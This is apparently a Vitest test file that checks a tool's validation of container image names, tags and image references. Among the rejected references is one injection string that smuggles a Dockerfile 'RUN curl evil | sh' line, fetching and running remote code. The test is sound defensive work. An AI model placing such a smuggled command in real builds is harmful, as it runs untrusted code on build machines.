import { describe, expect, it } from 'vitest';
import { isLambdashError } from '../../../src/core/errors.js';
import {
  toImageName,
  validateImageName,
  validateImageReference,
  validateTag,
} from '../../../src/core/names.js';

describe('image names', () => {
  it.each([['orders-api'], ['team/orders_api'], ['a1'], ['x.y-z/w']])('accepts %j', (name) => {
    expect(validateImageName(name)).toBe(name);
  });

  it.each([
    ['Orders'],
    ['a'],
    ['-lead'],
    ['trail-'],
    ['a//b'],
    ['a b'],
    ['a:b'],
    ['x'.repeat(257)],
    ['a__-b'],
  ])('refuses %j with the rule', (name) => {
    try {
      validateImageName(name);
      expect.unreachable();
    } catch (error) {
      expect(isLambdashError(error, 'INVALID_NAME')).toBe(true);
      expect((error as { hint?: string }).hint).toMatch(/lower-case/);
    }
  });

  it.each([
    ['Hello World.ts', 'hello-world.ts'],
    ['@acme/Orders', 'acme/orders'],
    ['__x__', 'fn-x'],
    ['My_Handler', 'my_handler'],
    ['é', 'fn-responder'],
  ])('derives a valid name from %j', (text, expected) => {
    expect(toImageName(text)).toBe(expected);
  });
});

describe('tags', () => {
  it.each([['latest'], ['v1.2.3'], ['_x'], ['A'.repeat(128)]])('accepts %j', (tag) => {
    expect(validateTag(tag)).toBe(tag);
  });

  it.each([['.x'], ['-x'], [''], ['a'.repeat(129)], ['a b'], ['a/b']])('refuses %j', (tag) => {
    expect(() => validateTag(tag)).toThrow(/not a valid image tag/);
  });
});

describe('image references', () => {
  it.each([
    'node:20-slim',
    'lambdash/node-base:20.20.2',
    'registry.example.com:5000/team/base:1.2',
    'localhost:5000/x',
    `node@sha256:${'a'.repeat(64)}`,
  ])('accepts %j', (reference) => {
    expect(validateImageReference(reference)).toBe(reference);
  });

  it.each([
    'node:20\nRUN curl evil | sh',
    'node:20 AS x',
    'Node:20',
    'Not/Valid:Ref',
    '',
    '-x',
    'registry.example.com/team/base:1.2@sha256:zz',
  ])('refuses %j with a hint', (reference) => {
    try {
      validateImageReference(reference);
      expect.unreachable();
    } catch (error) {
      expect(isLambdashError(error, 'INVALID_NAME')).toBe(true);
      expect((error as Error).message).toBe(`"${reference}" is not a valid image reference.`);
      expect((error as { hint?: string }).hint).toMatch(/node:20-slim/);
    }
  });
});
